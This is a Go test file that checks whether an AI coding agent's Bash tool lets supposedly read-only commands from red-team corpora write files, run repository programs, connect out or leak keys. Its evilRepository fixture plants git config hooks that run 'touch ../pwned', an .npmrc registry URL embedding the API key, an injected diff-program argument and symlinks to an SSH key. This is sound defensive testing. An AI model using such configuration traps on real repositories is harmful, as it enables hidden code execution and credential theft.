package cli_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/haftdev/haft/internal/test/needtest"

	"github.com/haftdev/haft/internal/shell"
)

// TestReadOnlyCommandsThroughOurBash gives commands of the corpora to haft's own Bash,
// in a repository that wants to run its own programs and holds links to a key. Whatever
// is allowed there writes nothing into the repository, starts no program of it, connects
// to nobody outside and prints neither the key nor a secret of the environment. One in
// forty runs by default, one in eight with HAFT_THOROUGH, all with HAFT_NIGHTLY.
func TestReadOnlyCommandsThroughOurBash(t *testing.T) {
	needtest.Need(t, needtest.Tracing)
	base := t.TempDir()
	repo := filepath.Join(base, "repo")
	haft, err := haftBinary()
	if err != nil {
		t.Fatal(err)
	}
	evilRepository(t, repo)
	every := 150
	switch {
	case needtest.Nightly():
		every = 1
	case needtest.Thorough():
		every = 8
	}
	foreign := regexp.MustCompile(`execve\("(?:\./|` + regexp.QuoteMeta(repo) + `)[^"]*"`)
	before := snapshot(t, repo)
	outside := regexp.MustCompile(`connect\(.*AF_INET6?.*`)
	where := &shell.Options{Cwd: repo, Home: filepath.Join(base, "home"), Roots: []string{repo}, FS: shell.OS{}}
	allowed, ran := 0, 0
	for _, command := range readingCommands(t) {
		if !shell.Analyze(command, where).ReadOnly {
			continue // a user's own call would run it
		}
		if allowed++; allowed%every != 0 {
			continue
		}
		ran++
		input, err := json.Marshal(map[string]any{"command": command, "timeout": 20_000})
		if err != nil {
			t.Fatal(err)
		}
		trace := filepath.Join(base, "trace")
		cmd := exec.Command("strace", "-f", "-qq", "-e", "trace=connect,execve", "-o", trace, haft, "tools", "call", "Bash", string(input))
		cmd.Dir = repo
		cmd.Env = bareEnv(filepath.Join(base, "home"), "ANTHROPIC_API_KEY=sk-never")
		out, _ := cmd.CombinedOutput() // many fail for lack of a file; that is no matter here
		if _, err := os.Stat(filepath.Join(base, "pwned")); err == nil {
			t.Fatalf("%q ran a program of the repository", command)
		}
		if strings.Contains(string(out), "sk-never") || strings.Contains(string(out), "KEY-SECRET") {
			t.Errorf("%q printed a key", command)
		}
		if after := snapshot(t, repo); after != before {
			t.Errorf("%q changed the repository:\n%s", command, after)
			before = after
		}
		text, err := os.ReadFile(trace)
		if err != nil {
			t.Fatal(err)
		}
		if foreign.Match(text) {
			t.Errorf("%q started a program of the repository: %s", command, foreign.Find(text))
		}
		// These may ask the user's own service.
		if ownService.MatchString(command) {
			continue
		}
		if text = boxesOwn.ReplaceAll(text, nil); outside.Match(text) {
			t.Errorf("%q connects: %s", command, outside.Find(text))
		}
	}
	t.Logf("%d of %d commands that are allowed ran", ran, allowed)
}

// boxesOwn is what the sandbox does to find out that it works: it connects to its own
// proxy, in a network that nobody else is in, and starts this program again.
var boxesOwn = regexp.MustCompile(`(?m)^.*(?:connect\(.*htons\(3128\), sin_addr=inet_addr\("127\.0\.0\.1"\)|execve\("(?:/proc/self/exe|/dev/null)").*\n`)

var ownService = regexp.MustCompile(`\b(gh|kubectl|docker)\b`)

// readingCommands are those of all corpora, whatever their labels.
func readingCommands(t *testing.T) (commands []string) {
	t.Helper()
	for _, name := range []string{"bash.jsonl", "redteam.jsonl", "secondattack.jsonl"} {
		data, err := os.ReadFile("../shell/testdata/" + name)
		if err != nil {
			t.Fatal(err)
		}
		for line := range bytes.Lines(data) {
			var c struct{ Cmd string }
			if err := json.Unmarshal(line, &c); err != nil {
				t.Fatal(err)
			}
			commands = append(commands, c.Cmd)
		}
	}
	return commands
}

// snapshot is what a folder holds: names, sizes and times of change.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		if !d.IsDir() {
			fmt.Fprintln(&b, path, info.Size(), info.Mode(), info.ModTime().UnixNano())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// evilRepository makes a repository whose settings run touch ../pwned wherever git,
// npm and others can be told to.
func evilRepository(t *testing.T, dir string) {
	t.Helper()
	script := `set -e
mkdir -p "$1/src" "$1/docs" && cd "$1"
git init -q . && git config user.email a@b && git config user.name a
echo one > README.md; echo two > server.log; echo a,b,9 > data.csv; echo '{"version":"1"}' > package.json
echo 'package main' > main.go; echo 'module x' > go.mod; echo '* filter=evil diff=evil' > .gitattributes
echo 'registry=http://127.0.0.1:9/${ANTHROPIC_API_KEY}' > .npmrc
for f in a b c list; do echo "$f TODO" > "$f"; done; echo 'c --diff-program=./evil' > list; echo '5 ./evil' > t; echo '{}' > j.json
mkdir -p d e ../home/.ssh && echo KEY-SECRET > ../home/.ssh/id_rsa && ln -s ../home/.ssh/id_rsa notes.md && ln -s ../../home/.ssh d/link && ln -s ../../home/.ssh/id_rsa d/x.txt
echo "$PWD/../home/.ssh/id_rsa" > files.txt; printf '#!/bin/sh\ntouch ../pwned\n' > evil; chmod +x evil
git add -A && git commit -qm one && echo changed >> README.md
for key in core.fsmonitor core.pager core.editor core.sshCommand core.hooksPath gpg.program filter.evil.clean filter.evil.smudge diff.evil.textconv pager.log pager.diff credential.helper; do
  git config "$key" 'touch ../pwned; cat'
done
git config log.showSignature true`
	if out, err := exec.Command("bash", "-c", script, "bash", dir).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
}
